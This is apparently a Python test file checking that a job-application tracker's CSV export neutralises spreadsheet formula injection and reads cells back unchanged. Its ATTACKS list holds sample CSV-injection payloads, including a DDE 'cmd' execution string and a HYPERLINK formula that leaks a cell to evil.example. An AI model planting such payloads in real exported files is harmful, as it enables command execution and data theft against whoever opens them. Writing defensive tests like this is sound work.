"""Applications as CSV: no cell followup writes is a formula to a spreadsheet, and what it writes
reads back the same."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from followup.adapters import spreadsheet

# What a spreadsheet runs as a formula: a cell starting with one of these (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",  # already quoted once: it must not lose its quote on the way back
    "+44 20 7946 0958",
]


def written(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    spreadsheet.write(out, rows)
    return out.getvalue()


def test_no_written_cell_starts_a_formula_when_read_by_pythons_csv() -> None:
    rows = [{column: attack for column in spreadsheet.COLUMNS} for attack in ATTACKS]
    cells = [cell for row in list(csv.reader(io.StringIO(written(rows))))[1:] for cell in row]
    assert len(cells) == len(ATTACKS) * len(spreadsheet.COLUMNS)
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in cells and "'+44 20 7946 0958" in cells


def test_read_takes_off_exactly_the_quote_write_added() -> None:
    rows = [
        {"company": attack.strip(), "role": "Engineer", "interviewer_phone": attack.strip()}
        for attack in ATTACKS
    ]
    text = written(rows)
    assert "'+44 20 7946 0958,Engineer" in text and "''=1+1," in text
    sheet = spreadsheet.read(text)
    assert [row["company"] for _, row in sheet.rows] == [attack.strip() for attack in ATTACKS]
    assert sheet.rows[-1][1]["interviewer_phone"] == "+44 20 7946 0958"


def test_read_takes_one_quote_off_a_formula_and_none_off_other_text() -> None:
    sheet = spreadsheet.read("company,role,notes\n'Quoted Ltd,'-,''@x\n")
    assert sheet.rows == [(2, {"company": "'Quoted Ltd", "role": "-", "notes": "'@x"})]


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1))
def test_neutralised_then_restored_is_the_cell(cell: str) -> None:
    safe = spreadsheet.neutralised(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert spreadsheet.restored(safe) == cell
